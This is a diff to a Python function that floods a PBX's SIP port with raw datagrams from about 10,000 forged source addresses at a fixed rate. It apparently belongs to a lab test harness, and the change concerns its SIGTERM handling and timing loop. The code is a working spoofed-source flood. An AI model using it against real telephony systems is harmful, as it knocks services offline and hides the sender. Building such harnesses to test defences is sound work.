@@ -26,17 +26,17 @@ def attack(seconds):
     """Sends ATTACK_RATE datagrams a second, of 10,000 forged sources, to the SIP port, until SIGTERM; prints how many."""
     body = messages(Net.PBX_WAN)[1].replace("USER", "800").replace("TAG", "1").encode()
     packets = [datagram(f"100.{64 + n // 65536}.{n // 256 % 256}.{n % 256}", Net.PBX_WAN, body) for n in range(1, 10000)]
-    ended = []
-    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
+    end = {signal.SIGTERM}
+    signal.pthread_sigmask(signal.SIG_BLOCK, end)
     print("begun", flush=True)
     sent, begin = 0, time.monotonic()
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
-        while not ended and (gone := time.monotonic() - begin) < seconds:
+        # The attack comes from outside: who sends it waits for the word to end, and does not take the box's processors meanwhile.
+        while not signal.sigtimedwait(end, 0.0005) and (gone := time.monotonic() - begin) < seconds:
             due = min(int(gone * ATTACK_RATE), sent + 500)
             for n in range(sent, due):
                 s.sendto(packets[n % len(packets)], (Net.PBX_WAN, 0))
             sent = max(sent, due)
-            time.sleep(0.0005)  # the attack comes from outside: who sends it is not to take the box's processors
     print(f"sent={sent} seconds={time.monotonic() - begin:.3f}")
 
 
